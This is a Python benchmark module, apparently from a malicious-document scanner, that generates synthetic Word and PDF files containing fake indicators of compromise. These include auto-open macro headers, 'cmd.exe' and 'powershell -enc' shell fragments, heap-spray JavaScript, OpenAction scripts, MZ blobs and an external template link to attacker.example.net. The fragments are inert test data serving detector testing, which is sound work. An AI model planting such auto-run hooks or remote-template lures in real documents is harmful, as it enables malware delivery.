@@ -0,0 +1,335 @@
+"""
+Synthetic malicious document corpus for benchmarks.
+
+Generates CFBF, OOXML and PDF documents of a given size with a controllable
+density of IOCs (auto-run macros, shell calls, embedded MZ, base64 blobs,
+JavaScript actions, URLs and IPs). Output is deterministic for a given seed,
+so reports produced from the corpus can be compared byte by byte.
+
+    python -m benchmarks.corpus OUT_DIR [--sizes 64K,1M] [--density 20] [--seed 1]
+"""
+import argparse
+import base64
+import io
+from pathlib import Path
+import random
+import struct
+from typing import Dict, List, Tuple
+import zipfile
+import zlib
+
+FILLER_WORDS = (
+    'invoice', 'payment', 'quarterly', 'report', 'customer', 'shipment', 'the', 'of', 'and',
+    'balance', 'attached', 'please', 'review', 'document', 'regards', 'account', 'total',
+)
+
+def parse_size(value: str) -> int:
+    units = { 'K': 1024, 'M': 1024 ** 2, 'G': 1024 ** 3 }
+    value = value.strip().upper()
+    if value[-1] in units:
+        return int(float(value[:-1]) * units[value[-1]])
+    return int(value)
+
+def filler_text(rng: random.Random, size: int) -> str:
+    words = []
+    length = 0
+    while length < size:
+        word = rng.choice(FILLER_WORDS)
+        words.append(word)
+        length += len(word) + 1
+    return ' '.join(words)[:size]
+
+def ioc_snippets(rng: random.Random, count: int, kinds: Tuple[str, ...]) -> List[str]:
+    makers = {
+        'macro': lambda: rng.choice(['Sub AutoOpen()', 'Sub Document_Open()', 'Private Sub Workbook_Open()']),
+        'shell': lambda: rng.choice(['Shell("cmd.exe /c calc")', 'CreateObject("WScript.Shell")', 'powershell -enc']),
+        'url': lambda: f'http://cdn{rng.randint(1, 999)}.example-{rng.randint(1, 99)}.com/load/{rng.randint(1000, 9999)}',
+        'ip': lambda: '.'.join(str(rng.randint(1, 254)) for _ in range(4)),
+        'base64': lambda: base64.b64encode(rng.randbytes(rng.randint(40, 120))).decode(),
+        'filename': lambda: f'C:/Users/Public/{rng.choice(["update", "svc", "drv"])}{rng.randint(1, 99)}.{rng.choice(["exe", "dll", "vbs", "ps1"])}',
+        'js': lambda: rng.choice(['eval(unescape("%u9090"))', 'String.fromCharCode(77,90)', 'app.launchURL("http://x.example.org/p")']),
+    }
+    return [makers[rng.choice(kinds)]() for _ in range(count)]
+
+def mixed_text(rng: random.Random, size: int, density: int, kinds: Tuple[str, ...]) -> str:
+    """ Filler text of roughly `size` bytes with `density` IOCs per 64 KiB. """
+    count = max(1, density * size // (64 * 1024)) if density else 0
+    snippets = ioc_snippets(rng, count, kinds)
+    chunk = max(1, size // (count + 1))
+
+    parts = []
+    for snippet in snippets:
+        parts.append(filler_text(rng, chunk))
+        parts.append(snippet)
+    parts.append(filler_text(rng, max(0, size - sum(len(p) + 1 for p in parts))))
+    return ' '.join(parts)
+
+def mz_blob(rng: random.Random, size: int) -> bytes:
+    return b'MZ\x90\x00' + rng.randbytes(max(0, size - 4))
+
+# --- OOXML -----------------------------------------------------------------
+
+def make_ooxml(size: int, density: int, seed: int = 1) -> bytes:
+    rng = random.Random(seed)
+    body = mixed_text(rng, size, density, ('url', 'ip', 'base64', 'filename', 'macro', 'shell'))
+    paragraphs = ''.join(f'<w:p><w:r><w:t>{body[i:i + 512]}</w:t></w:r></w:p>' for i in range(0, len(body), 512))
+
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
+        z.writestr('[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
+        z.writestr('_rels/.rels', '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>')
+        z.writestr('word/document.xml', f'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{paragraphs}</w:body></w:document>')
+        z.writestr('word/_rels/document.xml.rels', '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Target="http://attacker.example.net/template.dotm" TargetMode="External"/></Relationships>')
+        if density:
+            z.writestr('word/vbaProject.bin', make_vba_project(rng, max(8 * 1024, size // 16), density))
+            z.writestr('word/embeddings/oleObject1.bin', mz_blob(rng, 16 * 1024))
+        z.writestr('word/media/image1.png', rng.randbytes(max(1024, size // 8)))
+    return buf.getvalue()
+
+# --- CFBF ------------------------------------------------------------------
+
+SECTOR = 4096
+ENDOFCHAIN = 0xFFFFFFFE
+FREESECT = 0xFFFFFFFF
+FATSECT = 0xFFFFFFFD
+NOSTREAM = 0xFFFFFFFF
+
+def dir_entry(name: str, kind: int, start: int, size: int, right: int = NOSTREAM, child: int = NOSTREAM) -> bytes:
+    encoded = (name + '\0').encode('utf-16-le')
+    return struct.pack(
+        '<64sHBBIII16sIQQIQ',
+        encoded, len(encoded), kind, 1, NOSTREAM, right, child,
+        b'\0' * 16, 0, 0, 0, start, size
+    )
+
+def build_cfbf(streams: Dict[str, bytes]) -> bytes:
+    """
+    Minimal version 4 compound file (4 KiB sectors). Stream names may contain
+    '/' to place them in storages below the root. Streams are padded to the
+    4 KiB mini stream cutoff so no mini FAT is needed.
+    """
+    names = list(streams)
+    datas = [streams[n].ljust(SECTOR, b'\0') for n in names]
+
+    fat: List[int] = []
+    starts = []
+    for data in datas:
+        count = -(-len(data) // SECTOR)
+        starts.append(len(fat))
+        fat += list(range(len(fat) + 1, len(fat) + count)) + [ENDOFCHAIN]
+
+    # (name, type, start sector, size) of root, storages and streams, and the children of every storage
+    nodes = [('Root Entry', 5, ENDOFCHAIN, 0)]
+    ids = { (): 0 }
+    children: Dict[tuple, List[int]] = { (): [] }
+    for i, name in enumerate(names):
+        path = tuple(name.split('/'))
+        for depth in range(1, len(path)):
+            storage = path[:depth]
+            if storage not in ids:
+                ids[storage] = len(nodes)
+                nodes.append((storage[-1], 1, 0, 0))
+                children[storage] = []
+                children[storage[:-1]].append(ids[storage])
+        children[path[:-1]].append(len(nodes))
+        # sizes below the cutoff would be looked up in the mini stream
+        nodes.append((path[-1], 2, starts[i], max(len(streams[name]), SECTOR)))
+
+    # the first child hangs below its storage, its siblings are chained to the right
+    child = { ids[storage]: entries[0] for storage, entries in children.items() if entries }
+    right = { entry: following for entries in children.values() for entry, following in zip(entries, entries[1:]) }
+    entries = [
+        dir_entry(name, kind, start, size, right=right.get(i, NOSTREAM), child=child.get(i, NOSTREAM))
+        for i, (name, kind, start, size) in enumerate(nodes)
+    ]
+    directory = b''.join(entries)
+    directory = directory.ljust(-(-len(directory) // SECTOR) * SECTOR, b'\0')
+    dir_count = len(directory) // SECTOR
+    dir_start = len(fat)
+    fat += list(range(dir_start + 1, dir_start + dir_count)) + [ENDOFCHAIN]
+
+    per_fat_sector = SECTOR // 4
+    fat_count = 1
+    while len(fat) + fat_count > fat_count * per_fat_sector:
+        fat_count += 1
+    if fat_count > 109:
+        raise ValueError('document too large for header DIFAT')
+    fat_start = len(fat)
+    fat += [FATSECT] * fat_count
+    fat += [FREESECT] * (fat_count * per_fat_sector - len(fat))
+
+    difat = [fat_start + i for i in range(fat_count)] + [FREESECT] * (109 - fat_count)
+    header = struct.pack(
+        '<8s16sHHHHH6sIIIIIIIII',
+        b'\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1', b'\0' * 16, 0x3E, 4, 0xFFFE, 12, 6, b'\0' * 6,
+        dir_count, fat_count, dir_start, 0, 4096, ENDOFCHAIN, 0, ENDOFCHAIN, 0
+    ) + struct.pack('<109I', *difat)
+
+    out = io.BytesIO()
+    out.write(header.ljust(SECTOR, b'\0'))
+    for data in datas:
+        out.write(data.ljust(-(-len(data) // SECTOR) * SECTOR, b'\0'))
+    out.write(directory)
+    out.write(struct.pack(f'<{len(fat)}I', *fat))
+    return out.getvalue()
+
+# --- VBA -------------------------------------------------------------------
+
+def ovba_compress(data: bytes) -> bytes:
+    """
+    MS-OVBA 2.4.1 CompressedContainer of data. Copy tokens come from the last
+    earlier occurrence of the next 3 bytes in the chunk, good enough for
+    text and linear in the input.
+    """
+    out = bytearray(b'\x01')
+    for start in range(0, len(data), 4096):
+        chunk = data[start:start + 4096]
+        body = bytearray()
+        last: Dict[bytes, int] = {}
+        pos = 0
+        while pos < len(chunk):
+            flags_at, flags = len(body), 0
+            body.append(0)
+            for bit in range(8):
+                if pos >= len(chunk):
+                    break
+                bit_count = max((pos - 1).bit_length(), 4)
+                candidate = last.get(chunk[pos:pos + 3])
+                length = 0
+                if candidate is not None and pos - candidate <= 1 << (16 - bit_count):
+                    max_length = min((0xFFFF >> bit_count) + 3, len(chunk) - pos)
+                    while length < max_length and chunk[candidate + length] == chunk[pos + length]:
+                        length += 1
+                for i in range(pos, pos + max(length, 1)):
+                    last[chunk[i:i + 3]] = i
+                if length >= 3:
+                    token = (pos - candidate - 1) << (16 - bit_count) | (length - 3)
+                    body += struct.pack('<H', token)
+                    flags |= 1 << bit
+                    pos += length
+                else:
+                    body.append(chunk[pos])
+                    pos += 1
+            body[flags_at] = flags
+        if len(body) >= 4096 and len(chunk) == 4096:
+            # incompressible, stored as raw chunk
+            out += struct.pack('<H', 0x3FFF) + chunk
+        elif len(body) > 4096:
+            raise ValueError('incompressible data in the last chunk')
+        else:
+            out += struct.pack('<H', 0xB000 | (len(body) - 1)) + body
+    return bytes(out)
+
+def dir_record(record: int, value: bytes) -> bytes:
+    return struct.pack('<HI', record, len(value)) + value
+
+def make_vba_project(rng: random.Random, size: int, density: int) -> bytes:
+    """ vbaProject.bin with one module of roughly `size` bytes of source. """
+    source = 'Attribute VB_Name = "Module1"\r\n' + mixed_text(rng, size, density, ('macro', 'shell', 'url'))
+    compressed = ovba_compress(source.encode('cp1252', errors='replace'))
+    # source follows a performance cache, sized here so the module stream fills a sector
+    offset = max(0, SECTOR - len(compressed))
+
+    records = [
+        dir_record(0x0001, struct.pack('<I', 1)),       # PROJECTSYSKIND, 32-bit Windows
+        dir_record(0x0003, struct.pack('<H', 1252)),    # PROJECTCODEPAGE
+        dir_record(0x0004, b'VBAProject'),              # PROJECTNAME
+        dir_record(0x000F, struct.pack('<H', 1)),       # PROJECTMODULES
+        dir_record(0x0019, b'Module1'),                 # MODULENAME
+        dir_record(0x001A, b'Module1'),                 # MODULESTREAMNAME
+        dir_record(0x0031, struct.pack('<I', offset)),  # MODULEOFFSET
+        dir_record(0x0021, b''),                        # MODULETYPE, procedural
+        dir_record(0x002B, b''),                        # MODULE_TERMINATOR
+        dir_record(0x0010, b''),                        # DIR_TERMINATOR
+    ]
+    return build_cfbf({
+        'PROJECT': b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\nName="VBAProject"\r\n',
+        'VBA/dir': ovba_compress(b''.join(records)),
+        'VBA/Module1': b'\0' * offset + compressed,
+    })
+
+def make_cfbf(size: int, density: int, seed: int = 1) -> bytes:
+    rng = random.Random(seed)
+    streams = {
+        'WordDocument': mixed_text(rng, size // 2, density, ('url', 'ip', 'base64', 'filename')).encode('utf-8'),
+        '1Table': rng.randbytes(max(SECTOR, size // 4)),
+        'Macros': mixed_text(rng, max(SECTOR, size // 8), density, ('macro', 'shell', 'url')).encode('utf-8'),
+    }
+    if density:
+        streams['ObjectPool'] = mz_blob(rng, max(SECTOR, size // 8))
+    return build_cfbf(streams)
+
+# --- PDF -------------------------------------------------------------------
+
+def pdf_stream(data: bytes, extra: str = '') -> bytes:
+    compressed = zlib.compress(data)
+    return f'<< /Length {len(compressed)} /Filter /FlateDecode {extra}>>\nstream\n'.encode() + compressed + b'\nendstream'
+
+def build_pdf(objects: List[bytes]) -> bytes:
+    out = bytearray(b'%PDF-1.7\n')
+    offsets = []
+    for number, obj in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += f'{number} 0 obj\n'.encode() + obj + b'\nendobj\n'
+
+    xref = len(out)
+    out += f'xref\n0 {len(objects) + 1}\n0000000000 65535 f \n'.encode()
+    for offset in offsets:
+        out += f'{offset:010d} 00000 n \n'.encode()
+    out += f'trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n'.encode()
+    return bytes(out)
+
+def make_pdf(size: int, density: int, seed: int = 1) -> bytes:
+    rng = random.Random(seed)
+    pages = max(1, size // (64 * 1024))
+    per_page = max(256, size // pages // 2)
+
+    objects = [
+        b'<< /Type /Catalog /Pages 2 0 R' + (b' /OpenAction 3 0 R' if density else b'') + b' >>',
+        b'',  # page tree, filled in below
+        b'<< /S /JavaScript /JS 4 0 R >>',
+        pdf_stream(mixed_text(rng, 2048, density, ('js', 'url')).encode()),
+    ]
+    kids = []
+    for _ in range(pages):
+        content = mixed_text(rng, per_page, density, ('url', 'ip', 'filename', 'js'))
+        objects.append(pdf_stream(f'BT /F1 12 Tf ({content}) Tj ET'.encode()))
+        objects.append(f'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {len(objects)} 0 R >>'.encode())
+        kids.append(f'{len(objects)} 0 R')
+        objects.append(pdf_stream(rng.randbytes(per_page // 2), '/Type /XObject /Subtype /Image /Width 1 /Height 1 '))
+    if density:
+        objects.append(pdf_stream(mz_blob(rng, 8 * 1024), '/Type /EmbeddedFile '))
+    objects[1] = f'<< /Type /Pages /Kids [{" ".join(kids)}] /Count {len(kids)} >>'.encode()
+    return build_pdf(objects)
+
+GENERATORS = {
+    'cfbf': (make_cfbf, '.doc'),
+    'ooxml': (make_ooxml, '.docx'),
+    'pdf': (make_pdf, '.pdf'),
+}
+
+def generate_corpus(out_dir, sizes: List[int], density: int, seed: int = 1) -> List[Path]:
+    out_dir = Path(out_dir)
+    out_dir.mkdir(parents=True, exist_ok=True)
+
+    files = []
+    for kind, (generator, suffix) in GENERATORS.items():
+        for size in sizes:
+            path = out_dir / f'{kind}-{size}-d{density}{suffix}'
+            path.write_bytes(generator(size, density, seed))
+            files.append(path)
+    return files
+
+def main():
+    parser = argparse.ArgumentParser(description='Generate synthetic malicious document corpus')
+    parser.add_argument('out_dir', type=str, help='directory to write documents to')
+    parser.add_argument('--sizes', type=str, default='64K,1M', help='comma separated approximate document sizes')
+    parser.add_argument('--density', type=int, default=20, help='IOCs per 64 KiB of content (0 for clean documents)')
+    parser.add_argument('--seed', type=int, default=1, help='random seed')
+    args = parser.parse_args()
+
+    for path in generate_corpus(args.out_dir, [parse_size(s) for s in args.sizes.split(',')], args.density, args.seed):
+        print(path)
+
+if __name__ == '__main__':
+    main()